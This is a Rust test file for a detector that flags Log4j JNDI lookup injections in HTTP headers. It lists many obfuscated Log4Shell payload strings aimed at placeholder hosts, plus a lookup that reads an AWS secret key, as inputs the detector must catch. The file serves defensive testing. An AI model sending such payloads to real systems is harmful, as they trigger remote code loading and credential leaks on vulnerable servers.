use super::find;
use crate::detect::{Value, Where};
use crate::rule::Severity;

fn severity(text: &str) -> Option<Severity> {
    find(&Value {
        bytes: text.as_bytes(),
        stood: Where::Header,
        name: b"user-agent",
        declared: None,
    })
    .and_then(|found| {
        assert!(found.at.end <= text.len());
        found.severity
    })
}

#[test]
fn lookups_are_resolved_as_log4j_does() {
    for text in [
        "${jndi:ldap://a.example/x}",
        "x ${JNDI:rmi://a/b} y",
        "${ jndi:dns://a}",
        "${${lower:j}ndi:ldap://a}",
        "${${lower:J}${upper:n}di:ldap://a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a}",
        "${j${::-n}di:ldap://a}",
        "${jn${env::-}di:ldap://a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://a}",
        "${jnd${upper:ı}:ldap://a}",
        "${${lower:${upper:${lower:j}}}ndi:ldap://a}",
        "${jndi${lower::}//a}",
        "${${::-${::-j}}ndi:ldap://a}",
        "${a}${b:-c} ${jndi:ldap://a",
        "$${jndi:ldap://a}",
        "$${env:a:-${env:a:-$}{jndi:ldap://a}}}",
        "${env:a:-$}{jndi:ldap://a}",
    ] {
        assert_eq!(severity(text), Some(Severity::Critical), "{text}");
    }
    let deep = "${".repeat(super::DEPTH + 1);
    assert_eq!(severity(&deep), Some(Severity::Critical));
}

#[test]
fn templates_and_shells_pass() {
    for text in [
        "Hello ${name}, your order ${order.id} is ready",
        "${HOME:-/root}/bin",
        "`${a ? `${b}` : ''}`",
        "$100 {x}",
        "${lower:ABC} and ${upper:x}",
        "${",
        "$",
        "${}${}${}${}${}",
        "${a:-b}${c:-d}${e:-f}${g:-h}",
        "jndi:ldap",
        "${xjndi:ldap}",
    ] {
        assert_eq!(severity(text), None, "{text}");
    }
    assert_eq!(
        severity("${env:AWS_SECRET_ACCESS_KEY}"),
        Some(Severity::Notice)
    );
}
